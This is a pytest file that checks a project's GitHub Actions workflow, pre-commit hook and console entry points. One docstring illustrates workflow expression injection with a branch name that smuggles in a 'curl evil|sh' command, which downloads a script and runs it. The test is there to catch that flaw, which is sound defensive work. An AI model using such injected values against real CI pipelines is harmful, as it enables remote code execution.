"""The CI workflow, the pre-commit hook and the installed entry point."""

from __future__ import annotations

import re
import shutil
import sys
from importlib.metadata import entry_points
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.harness import REPO, wuhai_process

WORKFLOW = REPO / ".github" / "workflows" / "progress.yml"
HOOKS = REPO / ".pre-commit-hooks.yaml"


@pytest.fixture(scope="module")
def workflow() -> dict[Any, Any]:
    loaded = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    assert isinstance(loaded, dict)
    return loaded


def triggers(workflow: dict[Any, Any]) -> dict[str, Any]:
    """`on:` is the boolean True under YAML 1.1 (PyYAML); GitHub reads it as the key "on"."""
    found = workflow.get(True, workflow.get("on"))
    assert isinstance(found, dict), workflow.keys()
    return found


def steps(workflow: dict[Any, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def test_workflow_triggers_on_data_changes(workflow: dict[Any, Any]) -> None:
    on = triggers(workflow)
    assert set(on) == {"push", "pull_request"}
    assert on["push"]["paths"] == ["data/**"]
    assert on["pull_request"]["paths"] == ["data/**"]


def test_workflow_runs_check_with_github_format(workflow: dict[Any, Any]) -> None:
    runs = [step.get("run", "") for step in steps(workflow)]
    checks = [line.strip() for run in runs for line in run.splitlines()
              if line.strip().startswith("wuhai check")]
    assert checks, runs
    assert all("--format github" in line for line in checks)
    assert any("--changed-since" in line and '"origin/$BASE_REF"' in line for line in checks)
    (check_step,) = [step for step in steps(workflow) if "wuhai check" in step.get("run", "")]
    assert check_step["env"] == {"BASE_REF": "${{ github.base_ref }}"}
    assert any(re.search(r"pip install \.(\s|$)", run) for run in runs)


def test_no_expression_is_pasted_into_a_script(workflow: dict[Any, Any]) -> None:
    """GitHub pastes a `${{ }}` of a `run:` into the script before the shell reads it, so a
    branch named `a";curl evil|sh;"` would run; through `env:` it stays a string."""
    assert [step["run"] for step in steps(workflow) if "${{" in step.get("run", "")] == []


def test_workflow_fetches_history_for_changed_since(workflow: dict[Any, Any]) -> None:
    checkout = next(step for step in steps(workflow)
                    if str(step.get("uses", "")).startswith("actions/checkout"))
    assert checkout["with"]["fetch-depth"] == 0


def test_pre_commit_hook() -> None:
    hooks = yaml.safe_load(HOOKS.read_text(encoding="utf-8"))
    assert isinstance(hooks, list) and len(hooks) == 1
    (hook,) = hooks
    assert hook["id"] == "wuhai-validate"
    assert hook["entry"] == "wuhai validate"
    assert hook["language"] == "python"
    assert hook["pass_filenames"] is False
    pattern = re.compile(hook["files"])
    assert pattern.search("data/plan.yaml")
    assert pattern.search("data/progress/2025-海南区.yaml")
    assert pattern.search("data/progress/2025-hainan.yml")
    assert not pattern.search("src/wuhai_green/cli.py")
    assert not pattern.search("README.md")


def entry_point_script() -> Path:
    beside = Path(sys.executable).parent / "wuhai"
    if beside.exists():
        return beside
    found = shutil.which("wuhai")
    assert found is not None, "the wuhai console script is not installed"
    return Path(found)


def test_console_script_is_declared() -> None:
    (script,) = [ep for ep in entry_points(group="console_scripts") if ep.name == "wuhai"]
    assert script.value == "wuhai_green.entry:main"  # --version answered before typer


def test_installed_entry_point_runs(tmp_path: Path) -> None:
    result = wuhai_process("--help", cwd=tmp_path, program=[entry_point_script()])
    assert result.returncode == 0, result.stderr
    for command in ("check", "validate", "diff", "adjust", "expiring"):
        assert command in result.stdout


def test_installed_validate_uses_the_shipped_plan(tmp_path: Path) -> None:
    """In a folder with no data/ the hook's `wuhai validate` falls back to the shipped plan
    and finds nothing wrong (no progress folder at all)."""
    result = wuhai_process("validate", cwd=tmp_path, program=[entry_point_script()])
    assert result.returncode == 0, result.stdout + result.stderr


def test_module_entry_point(tmp_path: Path) -> None:
    result = wuhai_process("check", "--help", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "--fail-on" in result.stdout and "--format" in result.stdout
